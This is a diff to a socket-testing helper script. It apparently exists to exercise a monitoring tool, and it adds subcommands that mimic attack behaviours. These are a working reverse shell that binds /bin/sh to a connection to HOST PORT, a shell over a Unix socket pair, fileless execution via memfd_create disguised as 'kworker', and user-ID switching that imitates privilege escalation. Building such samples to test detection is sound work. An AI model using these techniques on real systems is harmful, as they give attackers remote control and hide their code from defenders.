@@ -9,6 +9,10 @@ sockets.py talk HOST PORT        connects, says something, reads
 sockets.py hold HOST PORT        connects, and sends something each second; prints its pid
 sockets.py leave HOST PORT       connects and ends; a child goes on with the socket; prints both pids
 sockets.py pass HOST PORT        makes a socket; a child that gets it by SCM_RIGHTS connects; prints its pid
+sockets.py shell HOST PORT       connects and becomes a shell on the connection
+sockets.py pipes PORT            runs a shell whose input and output are a Unix socket
+sockets.py memory HOST PORT      runs a program that is no file, which connects (that of $BRIEF)
+sockets.py raise HOST PORT       a user without rights, with a socket, who becomes root; prints its pid
 sockets.py again HOST PORT PORT2 two processes with the same pid one after the other connect; prints it
 """
 
@@ -146,7 +150,45 @@ def again(host, *ports):
     say(pid)
 
 
+def shell(host, port):
+    connection = connect(host, port)
+    for descriptor in range(3):
+        os.dup2(connection.fileno(), descriptor)
+    os.execl("/bin/sh", "sh")
+
+
+def pipes(_):
+    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    if os.fork() == 0:
+        os.dup2(there.fileno(), 0)
+        os.dup2(there.fileno(), 1)
+        os.execl("/bin/sh", "sh")
+    there.close()
+    here.sendall(b"exit\n")
+    os.wait()
+
+
+def memory(host, port):
+    program = os.memfd_create("brief", 0)
+    with open(os.environ["BRIEF"], "rb") as file:
+        os.write(program, file.read())
+    os.execv(f"/proc/self/fd/{program}", ["kworker", host, port])
+
+
+def raised(host, port):
+    connect(host, port).close()  # whatever Python reads for it is read as root
+    os.setresuid(1000, 1000, 0)
+    talk(connect(host, port))
+    os.setresuid(0, 0, 0)
+    talk(connect(host, port))
+    say(os.getpid())
+
+
 COMMANDS = {
+    "shell": shell,
+    "pipes": pipes,
+    "memory": memory,
+    "raise": raised,
     "serve": serve,
     "workers": workers,
     "ask": ask,
